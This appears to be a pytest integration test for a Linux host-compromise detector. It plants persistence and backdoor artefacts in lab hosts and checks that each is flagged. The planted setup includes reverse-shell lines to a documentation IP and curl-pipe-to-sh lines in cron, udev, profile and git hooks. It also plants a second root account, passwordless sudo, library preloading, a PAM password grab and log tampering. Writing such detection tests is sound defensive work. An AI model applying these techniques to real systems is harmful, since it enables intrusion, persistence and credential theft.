"""The live sweep over real hosts: one on which everything is planted that can be planted in namespaces, one of a clean Debian with what
administrators do, and one that is away. What belongs to a machine's kernel (modules, eBPF) is looked at in recorded output instead."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from integrations.lab import Lab
from integrations.linux.provider import PROVIDER
from tasks.checks._collect.hosts import SurveyedHost, ssh_logs
from tenantry.capabilities import HostLogin, HostRef
from tenantry.errors import CannotCheck, NoProvider, Unreachable, VendorFault
from tenantry.places import SHIPPED
from tenantry.sweep.check import Known, Look
from tenantry.sweep.discover import checks
from tenantry.sweep.engine import Detections
from tenantry.sweep.live import sweep_tenant
from tenantry.sweep.model import Finding, Sweep
from tests.support.fake_host import FakeHost
from tests.support.fakes import NOW as STORY
from tests.support.hosts import SMALL, HostNet, Key, host_net

_PLANTED = r"""
chroot . useradd -m -s /bin/bash -u 1202 alice
chroot . useradd -o -u 0 -g 0 -M -d /root -s /bin/bash -p '*' backup2
chroot . usermod -s /bin/bash -p '$6$x$setbytest' www-data
echo '{stranger} eve@kali' >> root/.ssh/authorized_keys
mkdir -p home/alice/.ssh home/alice/.config/systemd/user home/alice/.config/autostart home/alice/src/.git/hooks
echo 'command="bash -i >& /dev/tcp/203.0.113.66/443 0>&1" {other} x' > home/alice/.ssh/authorized_keys
echo 'www-data ALL=(ALL) NOPASSWD: ALL' > etc/sudoers.d/zz
echo '*/5 * * * * root curl -s http://203.0.113.66/u | sh' > etc/cron.d/0sync
mkdir -p var/spool/cron/atjobs
printf '#!/bin/sh\n/dev/shm/.x/later\n' > var/spool/cron/atjobs/a00001; chmod 700 var/spool/cron/atjobs/a00001
printf '[Service]\nExecStart=/dev/shm/.x/kworkerd\n' > etc/systemd/system/sys-healthd.service
printf '[Timer]\nOnCalendar=hourly\nUnit=sys-healthd.service\n' > etc/systemd/system/sys-healthd.timer
printf '[Service]\nExecStart=/usr/lib/systemd/systemd-healthd\n' > etc/systemd/system/sys-helper.service
cp bin/sleep usr/lib/systemd/systemd-healthd
mkdir -p etc/systemd/system-generators
printf '#!/bin/sh\ncp /bin/true "$1"\n' > etc/systemd/system-generators/makeunits; chmod 755 etc/systemd/system-generators/makeunits
printf '[Service]\nExecStart=/bin/sh -c "curl http://203.0.113.66/x | bash"\n' > home/alice/.config/systemd/user/sync.service
cp lib/x86_64-linux-gnu/libutil.so.1 usr/local/lib/libselinux.so.9
echo /usr/local/lib/libselinux.so.9 > etc/ld.so.preload
echo 'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/notify' >> etc/pam.d/common-auth
cp lib/x86_64-linux-gnu/libutil.so.1 lib/x86_64-linux-gnu/security/pam_unix2.so
mkdir -p etc/udev/rules.d etc/update-motd.d etc/profile.d etc/xdg/autostart etc/polkit-1/rules.d etc/NetworkManager/dispatcher.d etc/apt/apt.conf.d etc/modprobe.d
echo 'SUBSYSTEM=="net", RUN+="/bin/sh -c '"'"'curl http://203.0.113.66/n | sh'"'"'"' > etc/udev/rules.d/99-net.rules
printf '#!/bin/sh\nnohup /dev/shm/.x/kworkerd &\n' > etc/rc.local; chmod 755 etc/rc.local
printf '#!/bin/sh\necho aGk= | base64 -d | sh\n' > etc/update-motd.d/99-help; chmod 755 etc/update-motd.d/99-help
echo 'eval "$(curl -s http://203.0.113.66/p)"' > etc/profile.d/zz-lang.sh
echo 'alias sudo="/home/alice/.local/share/s"' > home/alice/.bashrc
printf '[Desktop Entry]\nType=Application\nExec=/tmp/.ICE/agent\n' > home/alice/.config/autostart/agent.desktop
echo 'polkit.addRule(function(action, subject) {{ return polkit.Result.YES; }});' > etc/polkit-1/rules.d/00.rules
printf '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.66/1 0>&1\n' > etc/NetworkManager/dispatcher.d/10-dns; chmod 755 etc/NetworkManager/dispatcher.d/10-dns
echo 'APT::Update::Pre-Invoke {{"nohup /var/tmp/.u/upd &";}};' > etc/apt/apt.conf.d/10period
printf '#!/bin/sh\ncurl -s http://203.0.113.66/g | sh\n' > home/alice/src/.git/hooks/post-checkout; chmod 755 home/alice/src/.git/hooks/post-checkout
cp bin/bash usr/local/bin/report; chmod 4755 usr/local/bin/report
cp usr/bin/python3.11 usr/local/bin/py; chroot . setcap cap_setuid+ep /usr/local/bin/py
printf x >> usr/bin/chsh; echo '# x' >> etc/init.d/ssh
mkdir -p etc/grub.d; printf '#!/bin/sh\necho x\n' > etc/grub.d/99_local; chmod 755 etc/grub.d/99_local
echo 'install usb-storage /usr/local/bin/notify' > etc/modprobe.d/zz.conf
ln -s /dev/null home/alice/.bash_history
chroot . chown -R alice: /home/alice
mkdir -p opt/anydesk opt/mesh
cp bin/sleep opt/anydesk/anydesk; cp bin/bash opt/mesh/meshagent
printf '[Service]\nExecStart=/usr/bin/true tunnel run\n' > etc/systemd/system/cloudflared.service
cat > var/log/auth.log <<'END'
{log}
END
"""
_RUNNING = r"""
mkdir -p /dev/shm/.x /tmp/.ICE /run/empty
cp /bin/sleep /dev/shm/.x/kworkerd; cp /bin/sleep /tmp/.ICE/agent; cp /usr/bin/python3.11 /var/tmp/listener
start() { setsid "$@" >/dev/null 2>&1 </dev/null & }
start /dev/shm/.x/kworkerd 86001
start /tmp/.ICE/agent 86002
start /var/tmp/listener -c 'import socket,time; s=socket.socket(); s.bind(("0.0.0.0", 4444)); s.listen(); time.sleep(86003)'
start bash -c 'exec -a "[kworker/0:3]" /bin/sleep 86004'
start bash -c 'exec 3<>/dev/tcp/ELSEWHERE/22; read -r x <&3; read -r y <&3; sleep 86005'
start /opt/anydesk/anydesk 86006
start /opt/mesh/meshagent -c 'sh -c "sleep 86007; echo >/dev/tcp/203.0.113.66/1" & wait'
start sleep 86008
for i in $(seq 200); do pgrep -f 'sleep 86007' >/dev/null && ss -Htln | grep -q :4444 && ss -Htn | grep -q ELSEWHERE:22 && break; sleep 0.02; done
rm /dev/shm/.x/kworkerd
mount --bind /run/empty /proc/$(pgrep -fx 'sleep 86008')
"""
_INNOCENT = r"""
chroot . useradd -m -s /bin/bash -u 1202 alice
mkdir -p home/alice/.ssh home/alice/src/.git/hooks opt/exporter etc/update-motd.d etc/NetworkManager/dispatcher.d etc/modprobe.d
echo 'command="rrsync -ro /srv" {known} backup@nas' > home/alice/.ssh/authorized_keys
printf '#!/bin/sh\nruff check . || exit 1\n' > home/alice/src/.git/hooks/pre-commit; chmod 755 home/alice/src/.git/hooks/pre-commit
printf 'alias sudo="sudo "\neval "$(pyenv init -)"\neval "$(dircolors -b)"\nexport PATH=$HOME/.local/bin:$PATH\n' >> home/alice/.bashrc
printf '[Service]\nExecStart=/opt/exporter/exporter --port 9100\n' > etc/systemd/system/exporter.service
cp usr/bin/python3.11 opt/exporter/exporter
echo '30 2 * * * root /usr/local/bin/backup.sh --to /srv/backup >/tmp/backup.log 2>&1' > etc/cron.d/backup
echo 'nagios ALL=(root) NOPASSWD: /usr/lib/nagios/plugins/check_raid' > etc/sudoers.d/nagios
printf '#!/bin/sh\ncurl -fsS -o /dev/null https://status.example/ping\n' > etc/cron.daily/ping; chmod 755 etc/cron.daily/ping
printf '#!/bin/sh\nuptime\n' > etc/update-motd.d/50-uptime; chmod 755 etc/update-motd.d/50-uptime
printf '#!/bin/sh\n[ "$2" = up ] && systemctl restart chrony\n' > etc/NetworkManager/dispatcher.d/20-chrony; chmod 755 etc/NetworkManager/dispatcher.d/20-chrony
printf 'install cramfs /bin/true\n' > etc/modprobe.d/cis.conf
mkdir -p etc/apt/apt.conf.d etc/udev/rules.d home/alice/.config/autostart
echo 'alice ALL=(ALL) NOPASSWD: ALL' > etc/sudoers.d/alice
echo 'session optional pam_exec.so /usr/local/bin/tell' >> etc/pam.d/common-session
echo 'SUBSYSTEM=="usb", RUN+="/usr/local/bin/backup"' > etc/udev/rules.d/90-backup.rules
printf '[Desktop Entry]\nExec=/home/alice/.dropbox-dist/dropboxd\n' > home/alice/.config/autostart/dropbox.desktop
printf '#!/bin/sh\n/usr/local/bin/prepare\n' > etc/rc.local; chmod 755 etc/rc.local
echo 'DPkg::Post-Invoke {{ "rm -f /var/cache/apt/archives/*.deb || true"; }};' > etc/apt/apt.conf.d/90clean
cat > var/log/auth.log <<'END'
{log}
END
"""

EXPECTED = {
    "at_job_pending",
    "autostart_unowned",
    "boot_altered",
    "capability_unowned",
    "cron_job_suspicious",
    "cron_job_unowned",
    "executable_deleted",
    "git_hook_runs",
    "key_runs_command",
    "key_unknown",
    "library_preloaded",
    "listener_unknown",
    "login_records_tampered",
    "motd_script_unowned",
    "msp_tool_abused",
    "network_hook_unowned",
    "package_file_altered",
    "package_hook_runs",
    "pam_opened",
    "polkit_allows_all",
    "process_hidden",
    "process_masquerades",
    "profile_fetches",
    "program_in_temporary_folder",
    "remote_access_tool",
    "reverse_shell",
    "second_root_account",
    "startup_script_unowned",
    "sudo_without_password",
    "suid_unowned",
    "system_account_opened",
    "udev_rule_runs",
    "unit_generator_unowned",
    "unit_starts_unpackaged",
    "unit_unowned",
    "linux_ssh_guessed",
}


def _line(at: datetime, words: str) -> str:
    return f"{at.isoformat()} web1 sshd[4242]: {words} from 203.0.113.66 port 50022 ssh2"


@dataclass
class Swept:
    sweep: Sweep
    net: HostNet
    left: dict[str, str]

    def of(self, host: str) -> list[Finding]:
        return [one for one in self.sweep.findings if host in str(one.entity["id"])]

    def rules(self, host: str) -> set[str]:
        return {one.rule.removeprefix("checks.host.") for one in self.of(host)}


class Access:
    name = "acme"

    def __init__(self, host: Any) -> None:
        self._host = host

    async def capability(self, name: str) -> Any:
        if name != "host":
            raise NoProvider(f"the tenant acme has no provider for {name!r}")
        return self._host


async def _asked(host: Any, now: datetime, known: Known) -> Sweep:
    return await sweep_tenant(
        Access(host),  # type: ignore[arg-type]  # as much of it as is used
        [check for check in checks() if check.name.startswith("checks.host.")],
        Look(now, now - timedelta(days=30), known),
        {"sshd": Detections.load("sshd", (SHIPPED / "detections",))},
    )


async def _sweep(net: HostNet, settings: dict[str, Any], known: Known) -> Sweep:
    handle = await PROVIDER.open(settings, net.secrets())
    try:
        return await _asked(handle.capability("host"), datetime.now(UTC), known)
    finally:
        await handle.aclose()


@pytest.fixture(scope="module")
def swept(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Swept]:
    stranger, other, known = Key(), Key(), Key()
    began = datetime.now(UTC) - timedelta(hours=3)
    guessing = [_line(began + timedelta(seconds=9 * n), "Failed password for root") for n in range(30)]
    guessed = [*guessing, _line(began + timedelta(minutes=6), "Accepted password for root")]
    forgetful = [
        _line(began, "Failed password for alice"),
        _line(began + timedelta(seconds=9), "Accepted password for alice"),
    ]
    with host_net(tmp_path_factory.mktemp("sweep")) as net:
        planted = _PLANTED.format(stranger=stranger.public, other=other.public, log="\n".join(guessed))
        innocent = _INNOCENT.format(
            known=known.public, log="\n".join(forgetful).replace("203.0.113.66", "192.168.7.20")
        )
        net.add("web1", setup=SMALL + planted)
        net.add("clean1", setup=SMALL + innocent)
        web, clean = net.hosts["web1"], net.hosts["clean1"]
        web.run("rm -f /var/log/wtmp; head -c 1152 /dev/zero > /var/log/wtmp; chmod 664 /var/log/wtmp")
        web.run("bash -s", stdin=_RUNNING.replace("ELSEWHERE", clean.address).encode())
        clean.run("setsid /opt/exporter/exporter -c 'import time; time.sleep(86000)' >/dev/null 2>&1 </dev/null &")
        for host in (web, clean):
            host.run("touch /run/begun")
        settings = net.settings("web1", "clean1")
        settings["hosts"]["away"] = {"address": f"{net.subnet}.250", "host_keys": [Key().public]}
        settings["connect_timeout"] = 2
        ours = Known(keys=frozenset({known.fingerprint.removeprefix("SHA256:")}), tools=frozenset({"meshcentral"}))
        sweep = asyncio.run(_sweep(net, settings, ours))
        left = {
            host.name: host.run(
                "find / -xdev ! -path '/proc/*' ! -path '/sys/*' -newer /run/begun ! -type d; find /run /tmp /var/tmp /dev/shm -newer /run/begun"
                " ! -type d; ps -eo user,args | grep '^respon' || true"
            )
            for host in (web, clean)
        }
        yield Swept(sweep, net, left)


def test_everything_that_is_planted_is_found(swept: Swept) -> None:
    assert EXPECTED - swept.rules("web1") - {one.rule for one in swept.of("203.0.113.66")} == set()


@pytest.mark.parametrize(
    ("rule", "of"),
    [
        ("unit_unowned", "/etc/systemd/system/sys-healthd.service"),
        ("unit_unowned", "/etc/systemd/system/sys-healthd.timer"),
        ("unit_unowned", "/home/alice/.config/systemd/user/sync.service"),
        ("pam_opened", "/etc/pam.d/common-auth"),
        ("pam_opened", "/usr/lib/x86_64-linux-gnu/security/pam_unix2.so"),
        ("profile_fetches", "/etc/profile.d/zz-lang.sh"),
        ("profile_fetches", "/home/alice/.bashrc"),
        ("boot_altered", "/etc/grub.d/99_local"),
        ("boot_altered", "/etc/modprobe.d/zz.conf"),
        ("login_records_tampered", "/home/alice/.bash_history linked_away"),
        ("login_records_tampered", "/var/log/wtmp zeroed"),
        ("suid_unowned", "/usr/local/bin/report"),
        ("package_file_altered", "/usr/bin/chsh"),
        ("package_file_altered", "/etc/init.d/ssh"),
        ("remote_access_tool", "anydesk"),
        ("remote_access_tool", "cloudflared"),
    ],
)
def test_each_place_is_named(swept: Swept, rule: str, of: str) -> None:
    (found,) = [one for one in swept.of("web1") if one.rule == f"checks.host.{rule}"]
    assert of in found.event_ids


def test_nothing_grave_is_found_on_a_clean_host(swept: Swept) -> None:
    grave = [(one.rule, one.evidence) for one in swept.of("clean1") if one.severity in ("high", "critical")]
    assert grave == []
    assert "unit_unowned" in swept.rules("clean1"), "it was looked at"


def test_a_host_that_is_away_is_said_and_hides_no_other(swept: Swept) -> None:
    asked = {one["check"] for one in swept.sweep.checks}
    away = {one["check"] for one in swept.sweep.could_not_check if "away" in one["why"]}
    assert away == asked
    others = [one for one in swept.sweep.could_not_check if "away" not in one["why"]]
    assert others == []


def test_nothing_is_left_behind(swept: Swept) -> None:
    logs = ("/var/log/", "/run/sudo/", "/run/lock")
    for host, left in swept.left.items():
        assert [line for line in left.splitlines() if not line.startswith(logs)] == [], host


# --- the lab's ---


@pytest.mark.parametrize("story", ["compromised_host", "ransomware"])
async def test_the_labs_stories(story: str) -> None:
    state = Lab(story, users=20, clock=lambda: STORY).tenant.hosts
    sweep = await _asked(FakeHost([], state), STORY, Known())
    grave = {(one.entity["id"], one.rule) for one in sweep.findings if one.severity in ("high", "critical")}
    named = ("cron_job_suspicious", "executable_deleted", "program_in_temporary_folder", "unit_unowned")
    assert {("web1", f"checks.host.{rule}") for rule in named} <= grave
    assert {host for host, _ in grave} == ({"web1"} if story == "compromised_host" else {"web1", "mon1"})


# --- without hosts ----------------------------------------------------------------------------------------------------


def test_what_was_not_read_cannot_be_checked() -> None:
    with pytest.raises(CannotCheck, match="web1: it does not answer"):
        SurveyedHost("web1", None, "it does not answer").have("files")


class Logs:
    """Hosts with logs; one of them ends in the middle."""

    async def hosts(self) -> list[HostRef]:
        return [HostRef(id=name, address="192.0.2.1") for name in ("a", "b")]

    async def logins(self, host: str, since: datetime) -> Any:
        for number in range(3000 if host == "a" else 3):
            yield HostLogin(
                id=str(number),
                at=since + timedelta(seconds=number),
                account="root",
                origin="203.0.113.9",
                method="password",
                key=None,
                success=False,
                raw=f"s=1;i=2 Failed password for root from 203.0.113.9 port {number} ssh2",
            )
        if host == "b":
            raise Unreachable("it went away")


class Given:
    look = Look(datetime(2026, 11, 22, tzinfo=UTC), datetime(2026, 11, 1, tzinfo=UTC))

    async def capability(self, name: str) -> Any:
        assert name == "host"
        return Logs()


async def test_logs_of_hosts_that_go_away_are_missed_when_the_others_are_through() -> None:
    seen: list[Any] = []
    with pytest.raises(VendorFault, match="b: it went away"):  # noqa: PT012  # what came before it is looked at
        async for record in ssh_logs.read(Given()):
            seen.append(record)
    assert len(seen) == 3003
    assert seen[0]["message"].startswith("Failed password for root from 203.0.113.9")
    assert len({record["id"] for record in seen}) == 3003


async def test_a_reader_that_stops_early_leaves_nothing_running() -> None:
    reading = ssh_logs.read(Given())
    await anext(reading)
    async with asyncio.timeout(5):
        await reading.aclose()  # type: ignore[attr-defined]  # it is a generator
